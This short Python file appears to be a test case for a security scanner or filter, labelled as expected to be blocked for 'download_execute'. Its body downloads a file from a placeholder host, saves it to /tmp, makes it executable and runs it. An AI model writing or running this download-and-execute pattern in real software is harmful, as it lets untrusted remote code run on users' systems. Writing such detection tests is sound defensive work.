# expect: BLOCKED download_execute
import os
import stat
import subprocess
import requests

URL = "http://files.example.net/agent"
DEST = "/tmp/agent"

r = requests.get(URL)
with open(DEST, "wb") as fh:
    fh.write(r.content)
os.chmod(DEST, os.stat(DEST).st_mode | stat.S_IXUSR)
subprocess.Popen([DEST])
